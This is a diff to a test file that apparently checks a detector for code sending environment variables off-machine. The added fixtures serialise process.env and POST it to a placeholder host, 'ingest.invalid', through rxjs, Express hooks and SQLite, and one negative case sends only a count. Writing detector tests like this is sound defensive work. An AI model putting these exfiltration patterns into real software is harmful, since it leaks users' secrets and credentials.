@@ -17,6 +17,19 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'it is put into a subject, and comes out of what was made of that',
+      files: {
+        'index.js': `const { Subject } = require('rxjs'), { map } = require('rxjs/operators'); const all = new Subject(); all.pipe(map(one => one.trim())).subscribe(body => fetch('https://ingest.invalid/v1', { method: 'POST', body })); all.next(JSON.stringify(process.env));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a hook leaves it with what it is handed, and a later one sends what lies there',
+      files: {
+        'index.js': `exports.load = (req, res, next) => { res.locals.all = { ...process.env }; next(); }; exports.report = (req, res, next) => { fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(res.locals.all) }).finally(next); };`,
+      },
+    },
+    {
       when: 'a database in memory hands out what was put into it by another statement',
       files: {
         'index.js': `const { DatabaseSync } = require('node:sqlite'); const db = new DatabaseSync(':memory:'); const insert = db.prepare('INSERT INTO outbox (body) VALUES (?)'); insert.run(JSON.stringify(process.env)); for (const row of db.prepare('SELECT body FROM outbox').all()) fetch('https://ingest.invalid/v1', { method: 'POST', body: row.body });`,
@@ -573,6 +586,13 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     })),
   ],
   silent: [
+    {
+      when: 'a hook leaves it with what it is handed, and a later one sends something else of that',
+      files: {
+        'index.js': `exports.load = (req, res, next) => { res.locals.all = { ...process.env }; next(); }; exports.report = (req, res, next) => { fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(res.locals.count) }).finally(next); };`,
+      },
+    },
+
     {
       when: 'a client logs in with a password, and hands on what comes to it',
       files: {
